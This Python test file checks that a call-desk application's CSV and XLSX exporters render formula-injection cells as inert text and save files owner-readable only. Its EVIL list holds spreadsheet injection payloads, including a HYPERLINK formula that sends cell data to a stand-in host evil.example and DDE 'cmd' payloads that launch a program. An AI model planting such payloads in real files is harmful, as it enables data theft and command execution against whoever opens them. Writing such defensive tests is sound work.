"""Files that cannot attack their reader: every CSV and XLSX writer of the desk
writes a cell starting with = + - @ tab or CR as text, never as a formula; the
files are readable by their owner only (0600). Each file is opened back."""

from __future__ import annotations

import csv
import dataclasses
import re
import stat
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from hotline_tui.commands.dispatch import write_xlsx as write_sheet
from hotline_tui.services.callbacks import report as callback_report
from hotline_tui.services.calls import daily_report
from hotline_tui.services.calls.calls import start_call, update_call
from hotline_tui.services.complaints import report as complaint_report
from hotline_tui.services.customers.contacts import create_customer
from hotline_tui.services.customers.transfer import export_customers
from hotline_tui.services.export import write_table
from hotline_tui.services.safe_files import FORMULA_STARTS, csv_cell, save_workbook

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[3]


def _no_formula_xlsx(path: Path) -> list[str]:
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _no_formula_csv(path: Path, encoding: str = "utf-8-sig") -> list[str]:
    with path.open(encoding=encoding, newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    for c in cells:
        assert not c.startswith(FORMULA_STARTS), c
    return cells


def _private(path: Path) -> None:
    assert stat.S_IMODE(path.stat().st_mode) == 0o600, oct(path.stat().st_mode)


def test_csv_cell_is_neutralized_as_owasp_says() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("上海宏达") == "上海宏达" and csv_cell(-5) == -5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_table_writes_no_formula(tmp_path, fmt) -> None:
    path = tmp_path / f"t.{fmt}"
    write_table(path, ["名称", "=H"], [[e, 1] for e in EVIL])
    _private(path)
    texts = _no_formula_csv(path) if fmt == "csv" else _no_formula_xlsx(path)
    for e in EVIL:  # the text itself is kept, readable
        assert any(e.strip() in t for t in texts), e


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_customers_export_writes_no_formula(staff, ctx_for, tmp_path, fmt) -> None:
    mgr = ctx_for(staff["manager"])
    for i, e in enumerate(EVIL):
        create_customer(mgr, name=f"{e}#{i}", contacts=[{"name": e[:60], "email": e[:100]}])
    path = tmp_path / f"c.{fmt}"
    export_customers(mgr, path)
    _private(path)
    _no_formula_csv(path) if fmt == "csv" else _no_formula_xlsx(path)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_daily_report_writes_no_formula(staff, ctx_for, clock, tmp_path, fmt) -> None:
    op = ctx_for(staff["operator"])
    unit = create_customer(op, name=EVIL[1])
    for e in EVIL:
        call = start_call(op)
        update_call(op, call.id, customer_id=unit.id, symptom=e, product=e[:100])
    report = daily_report.daily_report(clock.now().date())
    path = tmp_path / f"d.{fmt}"
    daily_report.write_report(report, fmt, path)
    _private(path)
    _no_formula_csv(path) if fmt == "csv" else _no_formula_xlsx(path)
    text = daily_report.write_report(report, "csv", None)
    assert "\n=" not in text and ",=" not in text


def test_dispatch_sheet_writes_no_formula(tmp_path) -> None:
    data = {"order_no": "PD20261123-0001", "customer": EVIL[0], "address": EVIL[1]}
    data.update(problem=EVIL[2], work_done=EVIL[3], signed_by=EVIL[4], contact=EVIL[5])
    path = tmp_path / "s.xlsx"
    write_sheet(data, path)
    _private(path)
    assert EVIL[0] in _no_formula_xlsx(path)


def test_callback_and_complaint_reports_write_no_formula(db, settings, tmp_path) -> None:
    report = callback_report.monthly_callback_report("2026-11", settings)
    report = dataclasses.replace(report, reasons=[(EVIL[0], "F1", EVIL[1], EVIL[2])])
    path = tmp_path / "cb.xlsx"
    callback_report.write_xlsx(report, path, settings)
    _private(path)
    assert EVIL[0] in _no_formula_xlsx(path)
    monthly = complaint_report.monthly_report("2026-11", settings)
    cause = complaint_report.Cause(EVIL[0], "attitude", "general", *EVIL[1:5], "registered")
    monthly = dataclasses.replace(monthly, causes=[cause])
    path = tmp_path / "cp.xlsx"
    complaint_report.write_xlsx(monthly, path, settings)
    _private(path)
    assert EVIL[1] in _no_formula_xlsx(path)


def test_save_workbook_turns_any_formula_into_text(tmp_path) -> None:
    wb = Workbook()
    wb.active["B2"] = "=1+1"
    wb.active.cell(3, 3, value=EVIL[1])
    save_workbook(wb, tmp_path / "w.xlsx")
    assert "=1+1" in _no_formula_xlsx(tmp_path / "w.xlsx")


def test_every_writer_goes_through_the_safe_helper() -> None:
    """No workbook is saved, and no CSV writer opened, outside safe_files."""
    offenders = []
    for path in (ROOT / "hotline_tui").rglob("*.py"):
        if path.name == "safe_files.py" or "bench" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        for pattern in (r"\bwb\.save\(", r"\.save\(path\)", r"csv\.writer\(buf\)"):
            if re.search(pattern, text):
                offenders.append(f"{path.name}: {pattern}")
        if "csv.writer(" in text and "csv_row" not in text:
            offenders.append(f"{path.name}: csv.writer without csv_row")
    assert not offenders


def test_date_cells_are_kept(tmp_path) -> None:
    path = tmp_path / "d.xlsx"
    write_table(path, ["日期"], [[date(2026, 11, 23)]])
    assert "2026-11-23" in _no_formula_xlsx(path)
